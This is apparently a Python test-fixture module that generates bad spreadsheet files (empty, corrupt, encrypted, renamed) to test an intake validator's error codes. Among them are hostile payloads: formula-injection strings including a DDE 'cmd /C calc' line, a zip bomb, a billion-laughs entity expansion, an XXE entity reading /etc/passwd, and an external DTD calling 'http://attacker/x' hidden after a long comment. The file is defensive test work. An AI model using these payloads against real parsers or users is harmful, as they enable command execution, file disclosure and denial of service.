"""Makes every bad file of intake.md (and a few more seen in the wild) from a good submission.

``make_bad_files(good, folder)`` writes them and returns ``{file name: expected F-code}``; files
that must be read normally map to None.
"""

from __future__ import annotations

import io
import os
import random
import struct
import zipfile
from pathlib import Path

INJECTION = ['=HYPERLINK("http://x","点我")', "+1", "-1+1", "@SUM(A1)", "=cmd|' /C calc'!A0"]


def _parts(path: Path) -> dict[str, bytes]:
    z = zipfile.ZipFile(path)
    return {i.filename: z.read(i.filename) for i in z.infolist()}


def _zip(parts: dict[str, bytes], names: dict[str, str] | None = None) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        for name, data in parts.items():
            z.writestr((names or {}).get(name, name), data)
    return buf.getvalue()


def ole(streams: list[str]) -> bytes:
    """A small OLE2 compound file whose directory holds ``streams`` (what intake looks at)."""
    header = bytearray(512)
    header[:8] = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
    struct.pack_into("<HHH", header, 24, 0x3E, 3, 0xFFFE)  # minor, major version, byte order
    struct.pack_into("<H", header, 30, 9)  # sector size 2^9
    struct.pack_into("<H", header, 32, 6)  # mini sector size 2^6
    struct.pack_into("<I", header, 44, 1)  # FAT sectors
    struct.pack_into("<I", header, 48, 1)  # first directory sector
    struct.pack_into("<I", header, 56, 4096)  # mini stream cutoff
    struct.pack_into("<I", header, 60, 0xFFFFFFFE)
    struct.pack_into("<I", header, 68, 0xFFFFFFFE)
    struct.pack_into("<I", header, 76, 0)  # DIFAT[0]: FAT in sector 0
    for i in range(1, 109):
        struct.pack_into("<I", header, 76 + 4 * i, 0xFFFFFFFF)
    fat = bytearray(b"\xff" * 512)
    struct.pack_into("<III", fat, 0, 0xFFFFFFFD, 0xFFFFFFFE, 0xFFFFFFFE)
    directory = bytearray()
    for i, name in enumerate(["Root Entry", *streams]):
        entry = bytearray(128)
        raw = name.encode("utf-16-le") + b"\x00\x00"
        entry[: len(raw)] = raw
        struct.pack_into("<H", entry, 64, len(raw))
        entry[66] = 5 if i == 0 else 2
        struct.pack_into("<III", entry, 68, 0xFFFFFFFF, 0xFFFFFFFF, 0xFFFFFFFF)
        directory += entry
    directory += b"\x00" * (-len(directory) % 512)
    return bytes(header + fat + directory + os.urandom(1024))


def make_bad_files(good: Path, folder: Path) -> dict[str, str | None]:
    folder.mkdir(parents=True, exist_ok=True)
    data = good.read_bytes()
    parts = _parts(good)
    sheet = "xl/worksheets/sheet6.xml"  # 绩效指标 in the generated template
    out: dict[str, tuple[bytes, str | None]] = {}

    out["empty.xlsx"] = (b"", "F001")
    out["random.xlsx"] = (random.Random(7).randbytes(20_000), "F002")
    out["text.xlsx"] = ("单位,得分\n杜岭街道,96\n".encode(), "F002")
    out["web_page.xls"] = ("<html><body><table><tr><td>单位</td></tr></table></body></html>".encode(), "F002")
    out["report.pdf.xlsx"] = (b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n", "F002")
    out["truncated.xlsx"] = (data[: len(data) // 2], "F003")
    corrupt = bytearray(data)
    start = data.index(b"xl/worksheets/sheet6.xml") + 40
    for i in range(start, start + 200):
        corrupt[i] ^= 0x5A
    out["corrupt.xlsx"] = (bytes(corrupt), "F003")
    out["renamed_docx.xlsx"] = (_zip({
        "[Content_Types].xml": b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>',
        "word/document.xml": b'<?xml version="1.0"?><w:document xmlns:w="x"/>'}), "F002")
    out["renamed_ods.xlsx"] = (_zip({"mimetype": b"application/vnd.oasis.opendocument.spreadsheet",
                                     "content.xml": b'<?xml version="1.0"?><office:document-content xmlns:office="x"/>'}), "F002")
    out["encrypted.xlsx"] = (ole(["EncryptionInfo", "EncryptedPackage", "\x06DataSpaces"]), "F004")
    out["legacy.xls"] = (ole(["Workbook", "\x05SummaryInformation"]), "F005")
    out["legacy.et"] = (ole(["Workbook", "WpsCustomData"]), "F005")
    bomb = dict(parts)
    bomb["xl/media/padding.bin"] = b"\x00" * (60 << 20)  # 60 MiB of zeros: a ratio far above 100
    out["zip_bomb.xlsx"] = (_zip(bomb), "F006")
    many = dict(parts)
    for i in range(5001):
        many[f"customXml/item{i}.xml"] = b"<a/>"
    out["many_entries.xlsx"] = (_zip(many), "F006")
    far = dict(parts)
    far[sheet] = far[sheet].replace(b"</sheetData>", b'<row r="1048576"><c r="XFD1048576" t="inlineStr">'
                                    b"<is><t>x</t></is></c></row></sheetData>")
    # one real cell at the grid's far corner: cells are kept sparse, so it costs one cell (a reader
    # that allocates by extent, as calamine does, would abort the process)
    out["far_cell.xlsx"] = (_zip(far), None)
    laughs = dict(parts)
    entities = '<!ENTITY lol "lol">' + "".join(
        f'<!ENTITY lol{i} "{"&lol" + (str(i - 1) if i > 1 else "") + ";" * 1}{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 9}">'
        for i in range(1, 10))
    laughs["xl/sharedStrings.xml"] = (f'<?xml version="1.0"?><!DOCTYPE sst [{entities}]>'
                                      '<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
                                      "<si><t>&lol9;</t></si></sst>").encode()
    out["billion_laughs.xlsx"] = (_zip(laughs), "F007")
    xxe = dict(parts)
    xxe[sheet] = xxe[sheet].replace(b"?>", b'?><!DOCTYPE w [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>', 1)
    out["xxe.xlsx"] = (_zip(xxe), "F007")
    hidden = dict(parts)
    hidden["xl/styles.xml"] = hidden["xl/styles.xml"].replace(
        b"?>", b"?><!--" + b" " * 20_000 + b'--><!DOCTYPE s [<!ENTITY e SYSTEM "http://attacker/x">]>', 1)
    out["dtd_after_comment.xlsx"] = (_zip(hidden), "F007")
    claim = dict(parts)
    import re

    claim[sheet] = re.sub(rb'<dimension ref="[^"]*"/>', b'<dimension ref="A1:XFD1048576"/>', claim[sheet])
    out["claims_whole_sheet.xlsx"] = (_zip(claim), None)
    backslash = {n: n.replace("/", "\\") for n in parts}
    out["backslash_paths.xlsx"] = (_zip(parts, backslash), None)

    for name, (blob, _code) in out.items():
        (folder / name).write_bytes(blob)
    return {name: code for name, (_blob, code) in out.items()}
